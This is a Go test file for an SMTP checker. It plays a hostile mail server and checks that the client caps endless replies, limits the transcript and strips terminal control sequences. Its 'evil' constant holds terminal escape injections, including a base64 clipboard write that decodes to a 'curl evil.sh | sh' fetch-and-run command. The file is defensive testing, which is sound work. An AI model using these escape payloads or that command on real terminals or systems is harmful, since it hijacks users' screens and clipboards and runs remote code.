package smtpcheck

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"
)

// evil is what a hostile server puts in every text it sends: a window
// title (OSC 0), a clipboard write (OSC 52), a screen clear (CSI), the
// same as a C1 control, and a right-to-left override.
const evil = "\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x1b[H \u009b2J \u202egpj.exe"

// terminalControls are the bytes that must never reach a screen or a file.
var terminalControls = []string{"\x1b", "\x07", "\u009b", "\u202e"}

func assertClean(t *testing.T, where, s string) {
	t.Helper()
	for _, c := range terminalControls {
		if strings.Contains(s, c) {
			t.Fatalf("%s holds %q: %q", where, c, s)
		}
	}
}

// hostileSMTP is an SMTP server someone else controls. Each session gets a
// buffered reader and the connection; serve may switch to TLS with
// startTLS. Every connection is closed when the test ends.
type hostileSMTP struct {
	t     *testing.T
	ln    net.Listener
	wg    sync.WaitGroup
	mu    sync.Mutex
	conns []net.Conn
}

func startHostile(t *testing.T, serve func(h *hostileSMTP, s *hsession)) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	h := &hostileSMTP{t: t, ln: ln}
	t.Cleanup(func() {
		ln.Close()
		h.mu.Lock()
		for _, c := range h.conns {
			c.Close()
		}
		h.mu.Unlock()
		h.wg.Wait()
	})
	h.wg.Add(1)
	go func() {
		defer h.wg.Done()
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			h.mu.Lock()
			h.conns = append(h.conns, c)
			h.mu.Unlock()
			h.wg.Add(1)
			go func() {
				defer h.wg.Done()
				defer c.Close()
				serve(h, &hsession{h: h, c: c, r: bufio.NewReader(c)})
			}()
		}
	}()
	return ln.Addr().(*net.TCPAddr).Port
}

type hsession struct {
	h *hostileSMTP
	c net.Conn
	r *bufio.Reader
}

func (s *hsession) say(lines ...string) bool {
	for _, l := range lines {
		if _, err := io.WriteString(s.c, l+"\r\n"); err != nil {
			return false
		}
	}
	return true
}

// forever sends continuation lines until the client hangs up.
func (s *hsession) forever(code string) {
	line := code + "-" + evil + strings.Repeat("x", 60)
	for s.say(line) {
	}
}

func (s *hsession) read() string {
	l, err := s.r.ReadString('\n')
	if err != nil {
		return ""
	}
	return strings.ToUpper(strings.TrimSpace(l))
}

func (s *hsession) startTLS(t *testing.T) bool {
	ca, _ := cas(t)
	tc := tls.Server(s.c, ca.ServerTLSConfig())
	if tc.Handshake() != nil {
		return false
	}
	s.c, s.r = tc, bufio.NewReader(tc)
	return true
}

// upToTLS greets, answers EHLO with STARTTLS and switches to TLS.
func (s *hsession) upToTLS(t *testing.T) bool {
	if !s.say("220 evil.test ESMTP") || !strings.HasPrefix(s.read(), "EHLO") ||
		!s.say("250-evil.test", "250 STARTTLS") || s.read() != "STARTTLS" || !s.say("220 2.0.0 go ahead") {
		return false
	}
	return s.startTLS(t)
}

// An endless reply, at the greeting, after the plain EHLO and after the
// encrypted EHLO, is cut at the caps: the session fails with
// ErrEndlessReply, having held at most one capped reply, and the
// transcript stays within its own cap.
func TestSendEndlessReply(t *testing.T) {
	cases := []struct {
		name  string
		serve func(t *testing.T, s *hsession)
		stage Stage
	}{
		{"greeting", func(t *testing.T, s *hsession) { s.forever("220") }, StageGreeting},
		{"ehlo", func(t *testing.T, s *hsession) {
			if s.say("220 evil.test ESMTP") && strings.HasPrefix(s.read(), "EHLO") {
				s.forever("250")
			}
		}, StageEHLO},
		{"ehlo-after-tls", func(t *testing.T, s *hsession) {
			if s.upToTLS(t) && strings.HasPrefix(s.read(), "EHLO") {
				s.forever("250")
			}
		}, StageEHLO},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			port := startHostile(t, func(_ *hostileSMTP, s *hsession) { c.serve(t, s) })
			o := options(port, tokShort)
			res := Send(context.Background(), o)
			if !errors.Is(res.Err, ErrEndlessReply) || res.Diagnosis.ID != IDEndlessReply || res.Stage != c.stage {
				t.Fatalf("stage %s diagnosis %s err %v", res.Stage, res.Diagnosis.ID, res.Err)
			}
			if !strings.Contains(res.Diagnosis.Title, "endless reply") {
				t.Errorf("title %q", res.Diagnosis.Title)
			}
			received, size := 0, 0
			for _, l := range res.Transcript {
				if l.Dir == Received {
					received++
				}
				size += len(l.Text)
				assertClean(t, "transcript", l.Text)
			}
			if received > MaxReplyLines+6 || len(res.Transcript) > MaxTranscriptLines+1 {
				t.Errorf("%d lines received, %d kept: the reply was not capped", received, len(res.Transcript))
			}
			if size > 2*MaxReplyBytes {
				t.Errorf("transcript holds %d bytes", size)
			}
			noLine(t, res, "C: AUTH")
			secretFree(t, res, o)
		})
	}
}

// A server that answers each of many recipients with a long (but capped)
// reply fills more than MaxTranscriptLines: the transcript keeps that
// many and says how many more there were.
func TestTranscriptCap(t *testing.T) {
	const rcpts = 12
	port := startHostile(t, func(h *hostileSMTP, s *hsession) {
		if !s.upToTLS(t) {
			return
		}
		for {
			verb := s.read()
			switch {
			case verb == "":
				return
			case strings.HasPrefix(verb, "EHLO"):
				s.say("250-evil.test", "250 AUTH XOAUTH2")
			case strings.HasPrefix(verb, "AUTH"):
				s.say("235 2.7.0 ok")
			case strings.HasPrefix(verb, "RCPT"):
				for i := 0; i < MaxReplyLines-2; i++ {
					s.say(fmt.Sprintf("250-2.1.5 line %d %s", i, evil))
				}
				s.say("250 2.1.5 ok")
			case verb == "DATA":
				s.say("354 go on")
				for s.read() != "." {
				}
				s.say("250 2.0.0 queued " + evil)
			case verb == "QUIT":
				s.say("221 bye")
				return
			default:
				s.say("250 2.1.0 ok")
			}
		}
	})
	o := options(port, tokShort)
	o.To = nil
	for i := 0; i < rcpts; i++ {
		o.To = append(o.To, fmt.Sprintf("r%d@contoso.com", i))
	}
	res := Send(context.Background(), o)
	if !res.Delivered {
		t.Fatalf("not delivered: %s %v", res.Diagnosis.ID, res.Err)
	}
	if len(res.Transcript) != MaxTranscriptLines+1 {
		t.Fatalf("%d transcript lines, want %d", len(res.Transcript), MaxTranscriptLines+1)
	}
	last := res.Transcript[len(res.Transcript)-1].Text
	if !strings.HasPrefix(last, "… ") || !strings.HasSuffix(last, " lines not kept") {
		t.Errorf("last line %q", last)
	}
	assertClean(t, "final reply", res.Reply.Text)
	assertClean(t, "diagnosis", res.Diagnosis.Detail)
}

// Every text the server sends (greeting, EHLO lines, the XOAUTH2
// challenge, the final refusal) reaches the Result cleaned, and the
// support log's form of a line keeps it Go-quoted.
func TestServerTextCleaned(t *testing.T) {
	challenge := base64.StdEncoding.EncodeToString([]byte(`{"status":"401","schemes":"bearer ` + strings.ReplaceAll(evil, `"`, ``) + `"}`))
	port := startHostile(t, func(h *hostileSMTP, s *hsession) {
		if !s.say("220 evil.test ESMTP "+evil) || !strings.HasPrefix(s.read(), "EHLO") ||
			!s.say("250-evil.test "+evil, "250-"+evil, "250 STARTTLS") || s.read() != "STARTTLS" ||
			!s.say("220 2.0.0 go ahead "+evil) || !s.startTLS(t) || !strings.HasPrefix(s.read(), "EHLO") ||
			!s.say("250-evil.test "+evil, "250 AUTH XOAUTH2") {
			return
		}
		s.read() // AUTH XOAUTH2 <response>
		s.say("334 " + challenge)
		s.read()
		s.say("535 5.7.3 Authentication unsuccessful "+evil, "")
	})
	var seen []Line
	o := options(port, tokShort)
	o.OnLine = func(l Line) { seen = append(seen, l) }
	res := Send(context.Background(), o)
	if res.Diagnosis.ID != IDAuthFailed {
		t.Fatalf("diagnosis %s err %v\n%s", res.Diagnosis.ID, res.Err, strings.Join(texts(res), "\n"))
	}
	all := []string{res.Reply.Text, res.Challenge, res.Diagnosis.Title, res.Diagnosis.Detail, res.Diagnosis.Fix, res.Err.Error()}
	for _, l := range append(res.Transcript, seen...) {
		all = append(all, l.Text, l.String())
	}
	for _, s := range all {
		assertClean(t, "result", s)
	}
	if !strings.Contains(res.Reply.Text, `\x1b]0;pwned\x07`) || !strings.Contains(res.Challenge, `\x1b]52;c;`) {
		t.Errorf("escapes not shown: reply %q challenge %q", res.Reply.Text, res.Challenge)
	}
	quoted := ""
	for _, l := range res.Transcript {
		if strings.HasPrefix(l.Text, "220 evil.test") {
			quoted = l.Quoted()
		}
	}
	if !strings.Contains(quoted, `\x1b]0;pwned\a`) || !strings.Contains(quoted, `\u202e`) {
		t.Errorf("log form %q does not quote the line as sent", quoted)
	}
	assertClean(t, "log form", quoted)
	secretFree(t, res, o)
}

// reference splits a stream into replies the simple way, for the fuzz
// target: the lines of each reply and its size.
func reference(b []byte) (lines, sizes []int) {
	n, size := 0, 0
	for len(b) > 0 {
		i := bytes.IndexByte(b, '\n')
		var l []byte
		if i < 0 {
			l, b = b, nil
		} else {
			l, b = b[:i+1], b[i+1:]
		}
		size += len(l)
		complete := l[len(l)-1] == '\n'
		if complete && len(l) >= 5 && l[3] == '-' {
			n++
			continue
		}
		if complete {
			lines, sizes = append(lines, n+1), append(sizes, size)
			n, size = 0, 0
		}
	}
	return append(lines, n), append(sizes, size)
}

// chunked reads the input in pieces of the given sizes.
type chunked struct {
	data  []byte
	sizes []byte
}

func (c *chunked) Read(p []byte) (int, error) {
	if len(c.data) == 0 {
		return 0, io.EOF
	}
	n := len(c.data)
	if len(c.sizes) > 0 {
		n = int(c.sizes[0])%len(c.data) + 1
		c.sizes = c.sizes[1:]
	}
	n = copy(p[:min(n, len(p))], c.data)
	c.data = c.data[n:]
	return n, nil
}

// FuzzCappedReader: whatever the server sends and however the reads fall,
// the reader passes on no reply past the caps, and passes on every byte
// of a stream that stays within them.
func FuzzCappedReader(f *testing.F) {
	f.Add([]byte("220 hi\r\n250-a\r\n250 b\r\n"), []byte{1, 2, 3}, 0)
	f.Add([]byte("250-"+strings.Repeat("x", 70)+"\r\n"), []byte{}, 200)
	f.Add([]byte("250-\n"), []byte{0}, 150)
	f.Fuzz(func(t *testing.T, data, sizes []byte, repeat int) {
		if repeat < 0 || repeat > 2000 {
			repeat = 0
		}
		in := bytes.Repeat(data, repeat+1)
		r := &cappedReader{r: &chunked{data: in, sizes: sizes}}
		out, err := io.ReadAll(r)
		if !bytes.Equal(out, in[:len(out)]) {
			t.Fatalf("passed on bytes that were not sent")
		}
		lines, sizes2 := reference(out)
		for i := range lines {
			if lines[i] > MaxReplyLines || sizes2[i] > MaxReplyBytes {
				t.Fatalf("reply %d passed on with %d lines, %d bytes", i, lines[i], sizes2[i])
			}
		}
		// Within the caps: every complete reply at most MaxReplyLines
		// lines, the unfinished one fewer, none over MaxReplyBytes.
		inLines, inSizes := reference(in)
		within := true
		for i := range inLines {
			limit := MaxReplyLines
			if i == len(inLines)-1 {
				limit--
			}
			if inLines[i] > limit || inSizes[i] > MaxReplyBytes {
				within = false
			}
		}
		if within && (err != nil || len(out) != len(in)) {
			t.Fatalf("a stream within the caps was cut: %v after %d of %d bytes", err, len(out), len(in))
		}
		if err != nil && !errors.Is(err, ErrEndlessReply) {
			t.Fatalf("error %v", err)
		}
	})
}

// The caller's deadline (check --timeout) running out is named as such,
// not as a server that did not answer within the command timeout.
func TestSendRunDeadlineNamed(t *testing.T) {
	o := options(silent(t), tokShort)
	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	defer cancel()
	res := Send(ctx, o)
	if res.Diagnosis.ID != IDTimeout || !strings.Contains(res.Diagnosis.Detail, "--timeout") {
		t.Fatalf("diagnosis %s: %s", res.Diagnosis.ID, res.Diagnosis.Detail)
	}
}
